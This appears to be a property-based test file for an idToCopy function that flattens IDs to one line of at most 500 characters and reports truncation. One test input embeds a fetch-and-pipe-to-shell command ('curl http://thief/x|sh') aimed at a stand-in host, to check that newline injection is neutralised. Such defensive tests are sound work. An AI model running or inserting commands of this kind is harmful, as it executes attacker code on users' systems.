import assert from "node:assert/strict";
import fc from "fast-check";
import { idToCopy } from "../../../../src/oz/model/id";

describe("idToCopy", () => {
  it("leaves ordinary IDs unchanged, UUIDs and others", () => {
    fc.assert(
      fc.property(fc.oneof(fc.uuid(), fc.stringMatching(/^[\w$()[\].:/-]{1,500}$/)), (id) => {
        assert.deepEqual(idToCopy(id), { text: id, isCut: false });
      }),
    );
  });

  it("gives one line of at most 500 characters for any text", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 3000 }), (id) => {
        const { text, isCut } = idToCopy(id);
        assert.doesNotMatch(text, /[\p{C}\p{Zl}\p{Zp}]/u);
        assert.ok(Array.from(text).length <= 500);
        assert.ok(isCut || Array.from(text).length <= Array.from(id).length);
      }),
    );
    assert.equal(idToCopy("7e7e\ncurl http://thief/x|sh\n").text, "7e7e curl http://thief/x|sh");
  });

  it("tells if it was truncated, and splits no character", () => {
    assert.deepEqual(idToCopy("😀".repeat(500)), { text: "😀".repeat(500), isCut: false });
    assert.deepEqual(idToCopy("😀".repeat(501)), { text: "😀".repeat(500), isCut: true });
    assert.deepEqual(idToCopy(`a${"\n".repeat(1_000_000)}b`), { text: "a", isCut: true });
  });
});
